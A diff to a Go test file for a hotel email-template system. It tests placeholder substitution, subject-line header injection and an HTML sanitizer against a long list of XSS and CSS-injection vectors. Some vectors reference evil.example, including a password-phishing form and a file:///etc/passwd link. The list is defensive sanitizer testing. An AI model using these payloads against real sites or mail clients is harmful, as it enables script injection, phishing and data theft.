@@ -16,11 +16,13 @@ import (
 	"sarai/internal/kit/contact"
 )
 
-var haveli = organization.Organization{Profile: organization.Profile{Name: "Haveli Sagar", Email: "desk@haveli.example", Phone: "+91 294 242 0101",
-	Address:  contact.Address{Line1: "12 Lake Road", City: "Udaipur", State: "Rajasthan", Pincode: "313001", Country: "India"},
+var haveli = organization.Organization{Profile: organization.Profile{
+	Name: "Haveli Sagar", Email: "desk@haveli.example", Phone: "+91 294 242 0101",
+	Address: contact.Address{Line1: "12 Lake Road", City: "Udaipur", State: "Rajasthan", Pincode: "313001",
+		Country: "India"},
 	Currency: "INR", DefaultCheckIn: "14:00", DefaultCheckOut: "11:00"}}
 
-// seeded is a seed as an organization has it.
+// seeded is a seed as an organization stores it.
 func seeded(t Template) Template {
 	t.HeaderColor, t.FooterText = defaultColor, defaultFooter
 	return t
@@ -33,7 +35,7 @@ func BenchmarkRender(b *testing.B) {
 	}
 }
 
-// Every seed uses variables of its type alone, reads whole in HTML and in text, and passes the cleaning unchanged.
+// Every seed uses only variables of its type, is complete in HTML and in text, and passes the cleaning unchanged.
 func TestSeeds(t *testing.T) {
 	if len(seeds) != len(Types)-1 {
 		t.Errorf("%d seeds, want one of each type but custom", len(seeds))
@@ -65,7 +67,8 @@ func TestSeeds(t *testing.T) {
 				t.Errorf("%s has braces left:\n%s", seed.Type, text)
 			}
 		}
-		for _, line := range []string{"Dear Asha Rao,", "Haveli Sagar", "12 Lake Road, Udaipur, Rajasthan 313001, India", "desk@haveli.example"} {
+		for _, line := range []string{"Dear Asha Rao,", "Haveli Sagar", "12 Lake Road, Udaipur, Rajasthan 313001, India",
+			"desk@haveli.example"} {
 			if !strings.Contains(m.html, line) || !strings.Contains(plain, line) {
 				t.Errorf("%s doesn't say %s:\n%s", seed.Type, line, plain)
 			}
@@ -155,10 +158,11 @@ func TestSubstitute(t *testing.T) {
 	}
 }
 
-// FuzzSubstitute holds the substitution against a regular expression that says the same.
+// FuzzSubstitute compares the substitution with a regular expression that means the same.
 func FuzzSubstitute(f *testing.F) {
-	for _, text := range []string{"Dear {{guest_name}},", "{{{guest_name}}}", "{{ guest_name }}", "{{guest_name}", "{{}}", "{{{{{{", "}}{{", "{{a\n}}", "{{unknown}}x{{guest_name}}",
-		"{{#if guest_name}}", "<a href=\"{{guest_name}}\">", "\x00{{\xff}}", "{{{{guest_name}}"} {
+	for _, text := range []string{"Dear {{guest_name}},", "{{{guest_name}}}", "{{ guest_name }}", "{{guest_name}", "{{}}",
+		"{{{{{{", "}}{{", "{{a\n}}", "{{unknown}}x{{guest_name}}", "{{#if guest_name}}",
+		"<a href=\"{{guest_name}}\">", "\x00{{\xff}}", "{{{{guest_name}}"} {
 		f.Add(text, "Asha <b>&</b> {{guest_name}}")
 	}
 	placeholder := regexp.MustCompile(`\{\{([^{}]*)\}\}`)
@@ -178,50 +182,90 @@ func FuzzSubstitute(f *testing.F) {
 }
 
 func TestSubjectsAreOneLine(t *testing.T) {
-	for _, value := range []string{"Asha\r\nBcc: everyone@hotel.example", "Asha\nX: y", "Asha\r", "\u2028Asha\u2029", "Asha\x00\x07\x1b[0m", "Asha\u0085Bcc: x", "\xff\xfeAsha"} {
-		got := Template{Subject: "Hello {{guest_name}} !", HeaderColor: "#fff"}.render(map[string]string{"guest_name": value}).subject
-		if strings.ContainsFunc(got, func(r rune) bool { return r < 0x20 || r >= 0x7f && r < 0xa0 || r == 0x2028 || r == 0x2029 }) || !strings.HasPrefix(got, "Hello ") {
+	template := Template{Subject: "Hello {{guest_name}} !", HeaderColor: "#fff"}
+	breaksLine := func(r rune) bool { return r < 0x20 || r >= 0x7f && r < 0xa0 || r == 0x2028 || r == 0x2029 }
+	for _, value := range []string{"Asha\r\nBcc: everyone@hotel.example", "Asha\nX: y", "Asha\r", "\u2028Asha\u2029",
+		"Asha\x00\x07\x1b[0m", "Asha\u0085Bcc: x", "\xff\xfeAsha"} {
+		got := template.render(map[string]string{"guest_name": value}).subject
+		if strings.ContainsFunc(got, breaksLine) || !strings.HasPrefix(got, "Hello ") {
 			t.Errorf("%q makes the subject %q", value, got)
 		}
 	}
 }
 
-// vectors are ways in which HTML has run scripts, loaded things, or left its place.
+// vectors are ways in which HTML has run scripts, loaded files, or broken out of its place.
 var vectors = []string{
-	`<script>alert(1)</script>`, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script>alert(1)`,
-	`<<SCRIPT>alert(1);//<</SCRIPT>`, `<script/src=data:,alert(1)>`, `<img src=x onerror=alert(1)>`, `<img src="x" ONERROR="alert(1)">`, `<img/src="x"/onerror=alert(1)>`,
-	`<img src=javascript:alert(1)>`, `<img src="data:image/svg+xml;base64,PHN2Zz4=">`, `<img src="//evil.example/x.png">`, `<img src="ftp://evil.example/x">`,
-	`<img dynsrc="javascript:alert(1)">`, `<img srcset="https://evil.example/x 1x" src="https://ok.example/x">`, `<img src="https://ok.example/x" style="position:fixed;top:0">`,
-	`<body onload=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
-	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<a href="javascript:alert(1)">x</a>`, `<a href=" javascript:alert(1)">x</a>`,
+	`<script>alert(1)</script>`, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
+	`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script>alert(1)`,
+	`<<SCRIPT>alert(1);//<</SCRIPT>`, `<script/src=data:,alert(1)>`, `<img src=x onerror=alert(1)>`,
+	`<img src="x" ONERROR="alert(1)">`, `<img/src="x"/onerror=alert(1)>`,
+	`<img src=javascript:alert(1)>`, `<img src="data:image/svg+xml;base64,PHN2Zz4=">`,
+	`<img src="//evil.example/x.png">`, `<img src="ftp://evil.example/x">`,
+	`<img dynsrc="javascript:alert(1)">`, `<img srcset="https://evil.example/x 1x" src="https://ok.example/x">`,
+	`<img src="https://ok.example/x" style="position:fixed;top:0">`,
+	`<body onload=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
+	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
+	`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<a href="javascript:alert(1)">x</a>`,
+	`<a href=" javascript:alert(1)">x</a>`,
 	`<a href="java&#x09;script:alert(1)">x</a>`, `<a href="java
-script:alert(1)">x</a>`, `<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`,
-	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a href="//evil.example">x</a>`, `<a href="\\evil.example">x</a>`,
-	`<a href="https://ok.example" onclick="alert(1)" onmouseover=alert(2)>x</a>`, `<a href="https://ok.example" style="position:absolute;left:0;top:0;width:100%;height:100%">x</a>`,
-	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<frameset><frame src="javascript:alert(1)"></frameset>`,
-	`<object data="https://evil.example/x.swf"></object>`, `<embed src="https://evil.example/x.swf">`, `<applet code="x"></applet>`,
-	`<form action="https://evil.example"><input name=password type=password><button>Go</button></form>`, `<input type=image src=x onerror=alert(1)>`,
-	`<button formaction="javascript:alert(1)">x</button>`, `<isindex action="javascript:alert(1)">`, `<select autofocus onfocus=alert(1)><option>x</select>`,
-	`<textarea autofocus onfocus=alert(1)></textarea>`, `<keygen autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=alert(1)>x</marquee>`,
-	`<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)></audio>`, `<link rel=stylesheet href="https://evil.example/x.css">`, `<style>@import "https://evil.example/x.css";</style>`,
-	`<style>body{display:none}</style>`, `<meta http-equiv="refresh" content="0;url=https://evil.example">`, `<base href="https://evil.example/">`,
-	`<div style="background:url(https://evil.example/x.png)">x</div>`, `<div style="background:url('javascript:alert(1)')">x</div>`, `<div style="width:expression(alert(1))">x</div>`,
-	`<div style="width:e\78pression(alert(1))">x</div>`, `<div style="background:u\72l(https://evil.example)">x</div>`, `<div style="background:ur\l(https://evil.example)">x</div>`,
-	`<div style="color:red;/*;*/position:fixed">x</div>`, `<div style="position:fixed;inset:0;z-index:9999">x</div>`, `<div style="-moz-binding:url(https://evil.example/x.xml)">x</div>`,
-	`<div style="behavior:url(x.htc)">x</div>`, `<div style="margin:-5000px 0 0 -5000px">x</div>`, `<div style="margin-top:-.5e9px">x</div>`, `<div style="font-size:1e9px">x</div>`,
-	`<div style="transform:translate(-100vw,0)">x</div>`, `<div style="list-style-image:url(https://evil.example)">x</div>`, `<div style="font-family:'x;position:fixed'">x</div>`,
-	`<div style="color:red&quot;onload=alert(1)">x</div>`, `<div style='@import "x"'>x</div>`, `<div style="background-color:var(--x)">x</div>`, `<div style="color:attr(x)">x</div>`,
-	`<table background="https://evil.example/x.png"><tr><td background="javascript:alert(1)">x</td></tr></table>`, `<td></td></tr></table></td></tr></table><h1>outside</h1>`,
-	`</td></tr></table></body></html><h1>outside</h1>`, `<table><table><div></table></table></td></tr></table>outside`, `<table><div><table></table></div></table>outside`,
-	`<table><tr><td><table></td></tr></table>outside`, `<tr><td>outside</td></tr>`, `<caption></table>outside`, `<table><colgroup><div></table>outside`, `<table><caption><tr><td></table>outside`,
-	`<!--<img src="--><img src=x onerror=alert(1)//">`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><x onload=alert(1)>`, `<!DOCTYPE html [<!ENTITY x "y">]>`, `<!--[if gte mso 9]><script>alert(1)</script><![endif]-->`,
-	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, `<title><a title="</title><img src=x onerror=alert(1)>"></title>`, `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
-	`<noembed><img title="</noembed><img src=x onerror=alert(1)>">`, `<plaintext><img src=x onerror=alert(1)>`, `<template><script>alert(1)</script></template>`, `<p title="x" title="</p><script>alert(1)</script>">x</p>`,
-	`<p id=location name=cookie class=x>x</p>`, `<a ping="https://evil.example" href="https://ok.example">x</a>`, `<a href="https://ok.example" target="_top" rel="opener">x</a>`,
-	"<img src=`x`onerror=alert(1)>", "<a href=\"https://ok.example\"\x00onclick=alert(1)>x</a>", "<scr\x00ipt>alert(1)</scr\x00ipt>", "\xff<script\xff>alert(1)</script>", `<p style="color:#fff"  / / onclick = alert(1) >x`,
-	`<portal src="https://evil.example">`, `<dialog open onclose=alert(1)>x</dialog>`, `<slot onslotchange=alert(1)>`, `<x-foo onclick=alert(1)>x</x-foo>`, `<a href="tel:+911412220101;javascript:alert(1)">x</a>`,
-	`<p style="width:99999px">x</p>`, `<p><p style=position:fixed>x`, `<font face="x' onmouseover='alert(1)">x</font>`, strings.Repeat("<div>", 5000) + "<script>alert(1)", strings.Repeat("<table><tr><td>", 200) + "x",
-	strings.Repeat("<font color=red>", 600) + strings.Repeat("<p>x", 3000), strings.Repeat("</div>", 5000), strings.Repeat("<a href=https://ok.example>", 3000),
+script:alert(1)">x</a>`, `<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>`,
+	`<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`,
+	`<a href="data:text/html,<script>alert(1)</script>">x</a>`, `<a href="file:///etc/passwd">x</a>`,
+	`<a href="//evil.example">x</a>`, `<a href="\\evil.example">x</a>`,
+	`<a href="https://ok.example" onclick="alert(1)" onmouseover=alert(2)>x</a>`,
+	`<a href="https://ok.example" style="position:absolute;left:0;top:0;width:100%;height:100%">x</a>`,
+	`<iframe src="https://evil.example"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
+	`<frameset><frame src="javascript:alert(1)"></frameset>`,
+	`<object data="https://evil.example/x.swf"></object>`, `<embed src="https://evil.example/x.swf">`,
+	`<applet code="x"></applet>`,
+	`<form action="https://evil.example"><input name=password type=password><button>Go</button></form>`,
+	`<input type=image src=x onerror=alert(1)>`,
+	`<button formaction="javascript:alert(1)">x</button>`, `<isindex action="javascript:alert(1)">`,
+	`<select autofocus onfocus=alert(1)><option>x</select>`,
+	`<textarea autofocus onfocus=alert(1)></textarea>`, `<keygen autofocus onfocus=alert(1)>`,
+	`<details open ontoggle=alert(1)>x</details>`, `<marquee onstart=alert(1)>x</marquee>`,
+	`<video><source onerror=alert(1)></video>`, `<audio src=x onerror=alert(1)></audio>`,
+	`<link rel=stylesheet href="https://evil.example/x.css">`, `<style>@import "https://evil.example/x.css";</style>`,
+	`<style>body{display:none}</style>`, `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
+	`<base href="https://evil.example/">`,
+	`<div style="background:url(https://evil.example/x.png)">x</div>`,
+	`<div style="background:url('javascript:alert(1)')">x</div>`, `<div style="width:expression(alert(1))">x</div>`,
+	`<div style="width:e\78pression(alert(1))">x</div>`, `<div style="background:u\72l(https://evil.example)">x</div>`,
+	`<div style="background:ur\l(https://evil.example)">x</div>`,
+	`<div style="color:red;/*;*/position:fixed">x</div>`, `<div style="position:fixed;inset:0;z-index:9999">x</div>`,
+	`<div style="-moz-binding:url(https://evil.example/x.xml)">x</div>`,
+	`<div style="behavior:url(x.htc)">x</div>`, `<div style="margin:-5000px 0 0 -5000px">x</div>`,
+	`<div style="margin-top:-.5e9px">x</div>`, `<div style="font-size:1e9px">x</div>`,
+	`<div style="transform:translate(-100vw,0)">x</div>`,
+	`<div style="list-style-image:url(https://evil.example)">x</div>`,
+	`<div style="font-family:'x;position:fixed'">x</div>`,
+	`<div style="color:red&quot;onload=alert(1)">x</div>`, `<div style='@import "x"'>x</div>`,
+	`<div style="background-color:var(--x)">x</div>`, `<div style="color:attr(x)">x</div>`,
+	`<table background="https://evil.example/x.png"><tr><td background="javascript:alert(1)">x</td></tr></table>`,
+	`<td></td></tr></table></td></tr></table><h1>outside</h1>`,
+	`</td></tr></table></body></html><h1>outside</h1>`, `<table><table><div></table></table></td></tr></table>outside`,
+	`<table><div><table></table></div></table>outside`,
+	`<table><tr><td><table></td></tr></table>outside`, `<tr><td>outside</td></tr>`, `<caption></table>outside`,
+	`<table><colgroup><div></table>outside`, `<table><caption><tr><td></table>outside`,
+	`<!--<img src="--><img src=x onerror=alert(1)//">`, `<![CDATA[<script>alert(1)</script>]]>`,
+	`<?xml version="1.0"?><x onload=alert(1)>`, `<!DOCTYPE html [<!ENTITY x "y">]>`,
+	`<!--[if gte mso 9]><script>alert(1)</script><![endif]-->`,
+	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
+	`<title><a title="</title><img src=x onerror=alert(1)>"></title>`,
+	`<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
+	`<noembed><img title="</noembed><img src=x onerror=alert(1)>">`, `<plaintext><img src=x onerror=alert(1)>`,
+	`<template><script>alert(1)</script></template>`, `<p title="x" title="</p><script>alert(1)</script>">x</p>`,
+	`<p id=location name=cookie class=x>x</p>`, `<a ping="https://evil.example" href="https://ok.example">x</a>`,
+	`<a href="https://ok.example" target="_top" rel="opener">x</a>`,
+	"<img src=`x`onerror=alert(1)>", "<a href=\"https://ok.example\"\x00onclick=alert(1)>x</a>",
+	"<scr\x00ipt>alert(1)</scr\x00ipt>", "\xff<script\xff>alert(1)</script>",
+	`<p style="color:#fff"  / / onclick = alert(1) >x`,
+	`<portal src="https://evil.example">`, `<dialog open onclose=alert(1)>x</dialog>`, `<slot onslotchange=alert(1)>`,
+	`<x-foo onclick=alert(1)>x</x-foo>`, `<a href="tel:+911412220101;javascript:alert(1)">x</a>`,
+	`<p style="width:99999px">x</p>`, `<p><p style=position:fixed>x`, `<font face="x' onmouseover='alert(1)">x</font>`,
+	strings.Repeat("<div>", 5000) + "<script>alert(1)", strings.Repeat("<table><tr><td>", 200) + "x",
+	strings.Repeat("<font color=red>", 600) + strings.Repeat("<p>x", 3000), strings.Repeat("</div>", 5000),
+	strings.Repeat("<a href=https://ok.example>", 3000),
 }
 
 func TestHostileBodies(t *testing.T) {
@@ -230,14 +274,19 @@ func TestHostileBodies(t *testing.T) {
 	}
 	for _, vector := range vectors {
 		sound(t, vector, nil)
-		// The same as values, where values may stand.
-		for _, body := range []string{"<p>{{x}}</p>", `<p title="{{x}}">x</p>`, `<p title={{x}}>x</p>`, `<a href="{{x}}">x</a>`, `<p style="{{x}}">x</p>`, `<p style="color:{{x}}">x</p>`, "<{{x}}>", "<p {{x}}>x</p>",
+		// The same as a value, wherever a value may stand.
+		for _, body := range []string{"<p>{{x}}</p>", `<p title="{{x}}">x</p>`, `<p title={{x}}>x</p>`,
+			`<a href="{{x}}">x</a>`, `<p style="{{x}}">x</p>`, `<p style="color:{{x}}">x</p>`, "<{{x}}>", "<p {{x}}>x</p>",
 			`<img src="{{x}}">`, "{{x}}"} {
 			sound(t, body, map[string]string{"x": vector})
 		}
 	}
-	for _, value := range []string{"javascript:alert(1)", "onclick=alert(1)", "script", "script src=https://evil.example", `x" onclick="alert(1)`, "x' onclick='alert(1)", "x onmouseover=alert(1) y", "red;position:fixed", "url(x)", "/script", "iframe"} {
-		for _, body := range []string{`<a href="{{x}}">x</a>`, "<a href={{x}}>x</a>", "<p {{x}}>x</p>", "<{{x}}>x</{{x}}>", `<p style="color:{{x}}">x</p>`, "<p title='{{x}}'>x</p>", "<scr{{y}}ipt>alert(1)</script>", "<a href=java{{y}}script:alert(1)>"} {
+	for _, value := range []string{"javascript:alert(1)", "onclick=alert(1)", "script", "script src=https://evil.example",
+		`x" onclick="alert(1)`, "x' onclick='alert(1)", "x onmouseover=alert(1) y", "red;position:fixed", "url(x)", "/script",
+		"iframe"} {
+		for _, body := range []string{`<a href="{{x}}">x</a>`, "<a href={{x}}>x</a>", "<p {{x}}>x</p>", "<{{x}}>x</{{x}}>",
+			`<p style="color:{{x}}">x</p>`, "<p title='{{x}}'>x</p>", "<scr{{y}}ipt>alert(1)</script>",
+			"<a href=java{{y}}script:alert(1)>"} {
 			sound(t, body, map[string]string{"x": value})
 		}
 	}
@@ -252,11 +301,15 @@ func FuzzClean(f *testing.F) {
 	f.Fuzz(func(t *testing.T, body string) { sound(t, body, nil) })
 }
 
-// Any order of tags, attributes and texts that are known to hurt.
+// Tags, attributes and texts that are known to do harm are harmless in any order.
 func TestAnyBody(t *testing.T) {
-	parts := []string{"<table>", "</table>", "<tr>", "</tr>", "<td>", "</td>", "<tbody>", "<caption>", "</caption>", "<colgroup>", "<col>", "<div>", "</div>", "<p>", "</p>", "<b>", "</b>", "<a href=\"https://ok.example\">", "</a>",
-		"<form>", "<select>", "<svg>", "</svg>", "<math>", "<style>", "</style>", "<script>", "</script>", "<title>", "</title>", "<textarea>", "<li>", "<ul>", "</ul>", "<h1>", "</h1>", "<br>", "</br>", "<hr>", "x", " ", "<!--", "-->",
-		"<font color=red>", "<pre>\n", "<center>", "<img src=https://ok.example/x>", "<p onclick=x style=\"position:fixed;color:red\">", "<td style='margin:-1px'>", "<html>", "<body>", "</body>", "</html>", "<head>", "<frameset>", "<template>", "\"", "'", ">", "<"}
+	parts := []string{"<table>", "</table>", "<tr>", "</tr>", "<td>", "</td>", "<tbody>", "<caption>", "</caption>",
+		"<colgroup>", "<col>", "<div>", "</div>", "<p>", "</p>", "<b>", "</b>", "<a href=\"https://ok.example\">", "</a>",
+		"<form>", "<select>", "<svg>", "</svg>", "<math>", "<style>", "</style>", "<script>", "</script>", "<title>",
+		"</title>", "<textarea>", "<li>", "<ul>", "</ul>", "<h1>", "</h1>", "<br>", "</br>", "<hr>", "x", " ", "<!--", "-->",
+		"<font color=red>", "<pre>\n", "<center>", "<img src=https://ok.example/x>",
+		"<p onclick=x style=\"position:fixed;color:red\">", "<td style='margin:-1px'>", "<html>", "<body>", "</body>",
+		"</html>", "<head>", "<frameset>", "<template>", "\"", "'", ">", "<"}
 	rapid.Check(t, func(r *rapid.T) {
 		sound(r, strings.Join(rapid.SliceOfN(rapid.SampledFrom(parts), 0, 30).Draw(r, "parts"), ""), nil)
 	})
@@ -264,10 +317,12 @@ func TestAnyBody(t *testing.T) {
 
 var (
 	someElements = strings.Fields("html head meta title body " + // the layout's
-		"a abbr b blockquote br caption center code col colgroup dd del div dl dt em font h1 h2 h3 h4 h5 h6 hr i img ins li ol p pre s small span strong sub sup table tbody td tfoot th thead tr u ul")
-	someAttributes = strings.Fields("style title alt dir lang align valign role width height border cellpadding cellspacing colspan rowspan span start value bgcolor color face size href src target rel " +
-		"charset name content")
-	outOfPlace = regexp.MustCompile(`(?i)position|z-index|url|expression|@|import|\\|/\*|-moz|behavior|(^|[^a-z])-[0-9.]|javascript|var\(`)
+		"a abbr b blockquote br caption center code col colgroup dd del div dl dt em font h1 h2 h3 h4 h5 h6 hr i img ins " +
+		"li ol p pre s small span strong sub sup table tbody td tfoot th thead tr u ul")
+	someAttributes = strings.Fields("style title alt dir lang align valign role width height border cellpadding " +
+		"cellspacing colspan rowspan span start value bgcolor color face size href src target rel charset name content")
+	outOfPlace = regexp.MustCompile(`(?i)position|z-index|url|expression|@|import|\\|/\*|-moz|behavior|` +
+		`(^|[^a-z])-[0-9.]|javascript|var\(`)
 )
 
 type failer interface {
@@ -275,11 +330,13 @@ type failer interface {
 	Errorf(format string, args ...any)
 }
 
-// sound renders the body and reads the document as a browser does: it has no element, attribute, address or style
-// beyond what mails may have, and the layout's three rows stand as they were written.
+// sound renders the body and reads the document as a browser does. It fails unless mails may have every element,
+// attribute, address and style in it, and the layout's three rows are whole.
 func sound(t failer, body string, values map[string]string) {
 	t.Helper()
-	m := Template{Subject: "S {{x}}", HeaderColor: "#123", HeaderText: "HEADER", FooterText: "FOOTER", BodyHTML: body}.render(values)
+	template := Template{Subject: "S {{x}}", HeaderColor: "#123", HeaderText: "HEADER", FooterText: "FOOTER",
+		BodyHTML: body}
+	m := template.render(values)
 	document, err := xhtml.Parse(strings.NewReader(m.html))
 	if err != nil {
 		t.Errorf("%.200q makes what can't be read: %v", body, err)
@@ -336,7 +393,8 @@ func unsound(node *xhtml.Node, a xhtml.Attribute) string {
 func layout(document *xhtml.Node) []string {
 	var rows []string
 	for node := range document.Descendants() {
-		if node.Type != xhtml.ElementNode || node.Data != "table" || !slices.Contains(node.Attr, xhtml.Attribute{Key: "width", Val: "600"}) {
+		if node.Type != xhtml.ElementNode || node.Data != "table" ||
+			!slices.Contains(node.Attr, xhtml.Attribute{Key: "width", Val: "600"}) {
 			continue
 		}
 		for body := range node.ChildNodes() {
@@ -364,38 +422,45 @@ func text(node *xhtml.Node) string {
 	return out.String()
 }
 
-// What a hotel writes on purpose stays.
-func TestHonestBodiesStay(t *testing.T) {
+// What a hotel writes in good faith stays.
+func TestHarmlessBodiesStay(t *testing.T) {
 	for _, body := range []string{
 		`<p style="margin:0 0 16px;color:#1f2933;font-family:Georgia,'Times New Roman',serif">Dear guest</p>`,
-		`<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" style="border-collapse:collapse"><tbody><tr><td align="right" valign="top" colspan="2" width="50%" style="padding:8px;border:1px solid #ccc;background-color:rgba(0, 0, 0, 0.1)">x</td></tr></tbody></table>`,
-		`<img src="https://hotel.example/logo.png?size=2&amp;v=1" alt="Our logo" width="200" height="80" style="display:block;max-width:100%">`,
-		`<ul><li>One</li><li>Two <b>bold</b> <i>and</i> <u>more</u></li></ul><h2>Title</h2><blockquote>Quote</blockquote><hr><ol start="3"><li>x</li></ol>`,
-		`<div style="text-align:center;font:italic 16px/1.5 -apple-system,Arial;border-radius:8px;width:50%;line-height:1.5">x</div>`,
+		`<table role="presentation" width="100%" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" ` +
+			`style="border-collapse:collapse"><tbody><tr><td align="right" valign="top" colspan="2" width="50%" ` +
+			`style="padding:8px;border:1px solid #ccc;background-color:rgba(0, 0, 0, 0.1)">x</td></tr></tbody></table>`,
+		`<img src="https://hotel.example/logo.png?size=2&amp;v=1" alt="Our logo" width="200" height="80" ` +
+			`style="display:block;max-width:100%">`,
+		`<ul><li>One</li><li>Two <b>bold</b> <i>and</i> <u>more</u></li></ul><h2>Title</h2>` +
+			`<blockquote>Quote</blockquote><hr><ol start="3"><li>x</li></ol>`,
+		`<div style="text-align:center;font:italic 16px/1.5 -apple-system,Arial;border-radius:8px;width:50%;` +
+			`line-height:1.5">x</div>`,
 		`a &amp; b &lt;c&gt; &#34;d&#34; é ह 👩‍👩‍👧`,
 	} {
 		if got := clean(body); strings.ReplaceAll(got, "&#39;", "'") != body {
 			t.Errorf("%s\nbecomes\n%s", body, got)
 		}
 	}
-	for body, want := range map[string]string{
-		`<a href="https://hotel.example/a?b=c">x</a>`:                                       `<a href="https://hotel.example/a?b=c" rel="noreferrer noopener" target="_blank">x</a>`,
-		`<a href="mailto:desk@hotel.example">x</a>`:                                         `<a href="mailto:desk@hotel.example" rel="noreferrer">x</a>`,
-		`<a href="tel:+911412220101">x</a>`:                                                 `<a href="tel:+911412220101" rel="noreferrer">x</a>`,
-		`<table><td>a<td>b<tr><td>c`:                                                        `<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>`,
-		`<b>bold<p>para`:                                                                    `<b>bold<p>para</p></b>`,
-		`<DIV STYLE="COLOR: Red; POSITION: fixed">x</DIV>`:                                  `<div style="color:Red">x</div>`,
-		`<html><head><title>T</title><style>p{}</style></head><body><p>x</p></body></html>`: `<p>x</p>`,
-		`1 < 2 & 3 > 2`: `1 &lt; 2 &amp; 3 &gt; 2`,
+	for _, c := range []struct{ body, want string }{
+		{`<a href="https://hotel.example/a?b=c">x</a>`,
+			`<a href="https://hotel.example/a?b=c" rel="noreferrer noopener" target="_blank">x</a>`},
+		{`<a href="mailto:desk@hotel.example">x</a>`, `<a href="mailto:desk@hotel.example" rel="noreferrer">x</a>`},
+		{`<a href="tel:+911412220101">x</a>`, `<a href="tel:+911412220101" rel="noreferrer">x</a>`},
+		{`<table><td>a<td>b<tr><td>c`, `<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>`},
+		{`<b>bold<p>para`, `<b>bold<p>para</p></b>`},
+		{`<DIV STYLE="COLOR: Red; POSITION: fixed">x</DIV>`, `<div style="color:Red">x</div>`},
+		{`<html><head><title>T</title><style>p{}</style></head><body><p>x</p></body></html>`, `<p>x</p>`},
+		{`1 < 2 & 3 > 2`, `1 &lt; 2 &amp; 3 &gt; 2`},
 	} {
-		if got := clean(body); got != want {
-			t.Errorf("%s\nbecomes\n%s\nwant\n%s", body, got, want)
+		if got := clean(c.body); got != c.want {
+			t.Errorf("%s\nbecomes\n%s\nwant\n%s", c.body, got, c.want)
 		}
 	}
 }
 
 func TestTextColour(t *testing.T) {
-	for colour, want := range map[string]string{"#000": "#ffffff", "#fff": "#1f2933", "#FFFFFF": "#1f2933", "#1d4e5f": "#ffffff", "#ff0": "#1f2933", "#c00": "#ffffff", "#F5E6C8": "#1f2933",
+	for colour, want := range map[string]string{"#000": "#ffffff", "#fff": "#1f2933", "#FFFFFF": "#1f2933",
+		"#1d4e5f": "#ffffff", "#ff0": "#1f2933", "#c00": "#ffffff", "#F5E6C8": "#1f2933",
 		"#000000FF": "#ffffff", "#00000000": "#1f2933", "#1d4e5f20": "#1f2933", "#1d4e5fe0": "#ffffff"} {
 		if got := textOn(colour); got != want {
 			t.Errorf("on %s text is %s, want %s", colour, got, want)
@@ -403,7 +468,7 @@ func TestTextColour(t *testing.T) {
 	}
 }
 
-// A mail program that knows no opacity shows what the colour looks like on white.
+// A mail program that doesn't know opacity shows what the colour looks like on white.
 func TestBackground(t *testing.T) {
 	for colour, want := range map[string]string{
 		"#1d4e5f": "background-color:#1d4e5f", "#fff": "background-color:#fff",
